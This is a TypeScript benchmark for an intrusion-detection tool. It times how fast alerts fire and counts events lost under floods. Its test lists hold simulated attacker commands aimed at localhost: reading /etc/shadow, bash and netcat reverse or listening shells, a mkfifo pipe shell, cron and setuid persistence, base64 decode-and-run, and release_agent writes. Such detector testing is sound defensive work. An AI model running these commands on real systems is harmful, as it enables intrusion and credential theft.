import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { sensor } from '../src/collect/sensors/audit/index.ts';
import { OwnPodman } from '../tests/support/own-podman.ts';
import { median, type Bench, type BenchResult } from './bench.ts';
import { whileAuditing, whyNoAuditRules } from './data/audit-rules.ts';
import { floods, type Flood } from './data/floods.ts';
import { startWatch, stopWatch, type Watching } from './data/live-watch.ts';

const root = fileURLToPath(new URL('..', import.meta.url));
const main = join(root, 'src/cli/main.ts');
/** After its start a watch judges what stood there, and V8 gives memory back. */
const settleMs = 20_000;
const idleMs = 20_000;
/** Longest that a flood is read for. */
const readMs = 240_000;

/** What an intruder does, without harm; what must be told of it; and of which container. */
interface Act {
  readonly name: string;
  readonly told: RegExp;
  readonly container?: string;
  readonly do: () => void;
}

/** On the host, as somebody who has logged in. */
const commands: readonly (readonly [name: string, command: string, told: RegExp])[] = [
  ['password hashes read', 'cat /etc/shadow > /dev/null', /shadow|hashes/i],
  ['reverse shell', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'", /shell/i],
  ['set-user-id bit', 'chmod u+s "$BENCH/program"', /set-?u(?:ser-)?id/i],
  ['cron file', 'echo "# bench" > /etc/cron.d/vakthund-bench; rm /etc/cron.d/vakthund-bench', /cron/i],
  [
    'run from a folder for all',
    'cp /bin/true /dev/shm/vakthund-bench; /dev/shm/vakthund-bench; rm /dev/shm/vakthund-bench',
    /anybody may write/i,
  ],
  ['decoded and run', "sh -c 'echo dHJ1ZQo= | base64 -d | sh'", /decode/i],
];

/** In a container. */
const lines: readonly (readonly [name: string, line: string, told: RegExp])[] = [
  ['password hashes read', 'cat /etc/shadow > /dev/null', /hashes/i],
  ['listening shell', 'nc -l -p 4444 -e /bin/sh & sleep 0.3; kill $!', /reverse shell|netcat/i],
  ['shell joined by a pipe', 'mkfifo /tmp/f; (sh -i < /tmp/f | nc 127.0.0.1 9 > /tmp/f) & sleep 0.3', /pipe/i],
  ['cron file', 'echo "* * * * * root /x" > /etc/cron.d/x', /cron/i],
  ['program dropped and run', 'cp /bin/busybox /tmp/ls; /tmp/ls /', /anybody may write/i],
  ['package manager', 'cp /bin/busybox /bin/apk; /bin/apk add curl', /package manager/i],
  ['kernel helper', 'echo /x > /tmp/release_agent', /kernel helper/i],
];

/** How long after an act its alert is told, and what becomes of floods of events: seen, or counted as lost. */
export const bench: Bench = {
  id: 'watch-live',
  async run(): Promise<readonly BenchResult[]> {
    const why = (await sensor.whyNot()) ?? whyNoAuditRules();
    if (why !== undefined) {
      process.stderr.write(`watch-live is skipped: ${why}\n`);
      return [];
    }
    const folder = mkdtempSync(join(tmpdir(), 'vkl-'));
    const podman = await OwnPodman.start(folder);
    if (podman === undefined) process.stderr.write('no containers: podman cannot be run here\n');
    mkdirSync(join(folder, 'opened'));
    const opens = `-a always,exit -F arch=b64 -S open,openat -F dir=${join(folder, 'opened')} -k opened`;
    const measure = async () => [...(await latencies(folder, podman)), ...(await floodLosses(folder))];
    try {
      return await whileAuditing(folder, measure, [opens]);
    } finally {
      await podman?.stop();
      rmSync(folder, { recursive: true, force: true });
    }
  },
};

async function latencies(folder: string, podman: OwnPodman | undefined): Promise<BenchResult[]> {
  copyFileSync('/bin/true', join(folder, 'program'));
  const engine = podman === undefined ? [] : ['--engine', podman.socket];
  // The first start compiles everything; what it compiled is there for all later ones.
  const first = await startWatch(folder, 'first', ['--sensor', 'auto', ...engine]);
  await sleep(settleMs);
  const atFirst = result('resident, first start', residentMiB(first), 'MiB', 1);
  await stopWatch(first);
  const watching = await startWatch(folder, 'acts', ['--sensor', 'auto', ...engine]);
  podman?.run('vkbench');
  const idle = [...(await idleCost(watching)), atFirst];
  const acts = [
    ...commands.map((command) => onHost(folder, ...command)),
    ...(podman === undefined ? [] : inside(podman)),
  ];
  const seconds: number[] = [];
  for (const act of acts) {
    const took = await timeTold(act, watching);
    if (took !== undefined) seconds.push(took);
    process.stderr.write(
      `${act.container ?? 'host'}, ${act.name}: ${took === undefined ? 'not told' : `${took.toFixed(2)} s`}\n`,
    );
  }
  await stopWatch(watching);
  return [
    result('act to alert', median(seconds), 's', seconds.length),
    result('slowest alert', Math.max(...seconds), 's', seconds.length),
    result('acts not told', acts.length - seconds.length, `of ${acts.length} acts`, acts.length),
    ...idle,
  ];
}

function onHost(folder: string, name: string, command: string, told: RegExp): Act {
  const script = 'echo 1000 > /proc/self/loginuid; exec sh -c "$0"';
  const options = { env: { ...process.env, BENCH: folder }, stdio: 'ignore' } as const;
  return { name, told, do: () => void spawnSync('sh', ['-c', script, command], options) };
}

function inside(podman: OwnPodman): Act[] {
  const container = 'vkbench';
  return lines.map(([name, line, told]) => ({ name, told, container, do: () => podman.exec(container, line) }));
}

/**
 * Seconds from the event to its alert, which must name the container and its image; undefined when none came. What an engine takes to start the
 * act is its own.
 */
async function timeTold(act: Act, watching: Watching): Promise<number | undefined> {
  await sleep(2500);
  const from = watching.told.length;
  act.do();
  const find = () =>
    watching.told.slice(from).find(({ notice }) => {
      const isOfAct = act.told.test(`${String(notice['detector'])} ${String(notice['title'])}`);
      const isThere = act.container === undefined || (notice['container'] === act.container && 'image' in notice);
      return notice['type'] === 'alert' && isOfAct && isThere;
    });
  await watching.until(() => find() !== undefined);
  const found = find();
  return found === undefined ? undefined : found.at / 1000 - Number(found.notice['time']) / 1e6;
}

/** What a watch takes while nearly nothing happens: share of one processor, and resident memory. */
async function idleCost(watching: Watching): Promise<BenchResult[]> {
  const { child } = watching;
  await sleep(settleMs);
  const before = cpuOf(child.pid ?? 0);
  const startedAt = performance.now();
  await sleep(idleMs);
  const share = (cpuOf(child.pid ?? 0) - before) / ((performance.now() - startedAt) / 1000);
  return [result('idle', share * 100, '% of a core', 1), result('resident', residentMiB(watching), 'MiB', 1)];
}

function residentMiB({ child }: Watching): number {
  const status = readFileSync(`/proc/${child.pid}/status`, 'latin1');
  return Number(/^VmRSS:\s+(?<kilobytes>\d+)/m.exec(status)?.groups?.['kilobytes']) / 1024;
}

/** CPU seconds of a process, all threads. */
function cpuOf(pid: number): number {
  const fields = readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ').at(-1)?.split(' ') ?? [];
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

function result(what: string, value: number, unit: string, runs: number): BenchResult {
  return { id: `watch-live/${what}`, value, unit, cpu_s: 0, runs };
}

async function floodLosses(folder: string): Promise<BenchResult[]> {
  const results: BenchResult[] = [];
  for (const flood of floods(folder)) {
    const { id, run } = flood;
    const watching = await startWatch(folder, id, ['--sensor', 'audit']);
    const { made, seconds } = run();
    const seen = await seenOf(folder, flood, made);
    if (seen === undefined) process.stderr.write(`${id}: not read to the end in ${readMs / 1000} s\n`);
    const lost = watching.told
      .filter(({ notice }) => notice['type'] === 'sensor' && notice['state'] === 'lost')
      .reduce((sum, { notice }) => sum + Number(notice['count'] ?? 0), 0);
    await stopWatch(watching);
    results.push(
      result(`${id} made`, made / seconds, 'events/s', 1),
      result(`${id} unseen`, made - (seen ?? 0), `of ${made} events`, 1),
      result(`${id} told as lost`, lost, 'records', 1),
    );
  }
  return results;
}

/**
 * Events in the case once all that the sensor recorded is read: an event that was made behind the flood stands there, and records are read in the order
 * in which they came. Undefined when none came in time. A mark may be lost as any other, so that more are made.
 */
async function seenOf(folder: string, flood: Flood, made: number): Promise<number | undefined> {
  const { id, kind, condition, mark, markCondition } = flood;
  const counts = `count(*) FILTER (${condition}) AS seen, count(*) FILTER (${markCondition}) AS marks`;
  for (const until = performance.now() + readMs; performance.now() < until;) {
    mark();
    await sleep(2000);
    const args = [main, 'hunt', `SELECT ${counts} FROM ${kind}`, '--case', join(folder, id), '--format', 'csv'];
    const { stdout } = spawnSync(process.execPath, args, { encoding: 'utf8' });
    const [seen = 0, marks = 0] = (stdout.trim().split(/\r?\n/).at(-1) ?? '').split(',').map(Number);
    if (marks > 0 || seen >= made) return seen;
  }
  return undefined;
}
